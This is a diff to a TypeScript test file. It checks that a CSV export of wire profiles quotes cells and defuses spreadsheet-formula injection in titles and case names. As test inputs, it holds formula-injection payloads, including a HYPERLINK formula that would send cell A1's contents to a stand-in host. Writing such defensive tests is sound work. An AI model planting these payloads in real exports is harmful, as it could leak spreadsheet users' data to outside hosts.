@@ -66,6 +66,59 @@ describe('profiles CSV', () => {
   it('quotes commas and defuses formulas in case names', () => {
     expect(csvText('Cold, iced, windy')).toBe('"Cold, iced, windy"');
     expect(csvText('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
-    expect(csvText('Hot summer')).toBe('Hot summer');
+    expect(csvText('Hot summer')).toBe('"Hot summer"');
+    expect(csvText('+SUM(A1)')).toBe('"\'+SUM(A1)"');
+    expect(csvText('-2+3')).toBe('"\'-2+3"');
+    expect(csvText('@cmd')).toBe('"\'@cmd"');
+    expect(csvText('\t=1')).toBe('"\'\t=1"');
+    expect(csvText('\r=1')).toBe('"\'\r=1"');
+    expect(csvText('\uff1d1+1')).toBe('"\'\uff1d1+1"');
+  });
+});
+
+/** RFC 4180 cells of one line (quoted cells may hold commas and doubled quotes). */
+function cells(line: string): string[] {
+  const out: string[] = [];
+  let i = 0;
+  while (i <= line.length) {
+    if (line[i] === '"') {
+      let cell = '';
+      i++;
+      while (i < line.length && !(line[i] === '"' && line[i + 1] !== '"')) {
+        cell += line[i];
+        i += line[i] === '"' ? 2 : 1;
+      }
+      out.push(cell);
+      i += 2;
+    } else {
+      const end = line.indexOf(',', i);
+      out.push(line.slice(i, end < 0 ? line.length : end));
+      i = end < 0 ? line.length + 1 : end + 1;
+    }
+  }
+  return out;
+}
+
+describe('profiles CSV with hostile text', () => {
+  it('keeps a hostile title in one quoted, defused cell of the first line', () => {
+    const title = '=HYPERLINK("http://x.test/?"&A1,"click"),=1+1';
+    const csv = profilesCsv({ ...project, title }, results, 'si');
+    const first = csv.split('\r\n')[0];
+    expect(cells(first)).toEqual(['# Sagwright wire profiles', `'${title}`]);
+  });
+
+  it('quotes and defuses every case name in every row', () => {
+    const named = structuredClone(results);
+    named.cases.forEach((c, i) => {
+      c.name = `@SUM(1,${i})`;
+    });
+    const { body } = rows(profilesCsv(project, named, 'si'));
+    for (const row of body) {
+      const [name, ...rest] = cells(row);
+      const numbers = rest.slice(0, -1); // the last column is the case id
+      expect(name).toMatch(/^'@SUM\(1,\d\)$/);
+      expect(rest.at(-1)).toMatch(/^(installation|cases\[\d\])$/);
+      expect(numbers.every((n) => n === '' || Number.isFinite(Number(n)))).toBe(true);
+    }
   });
 });
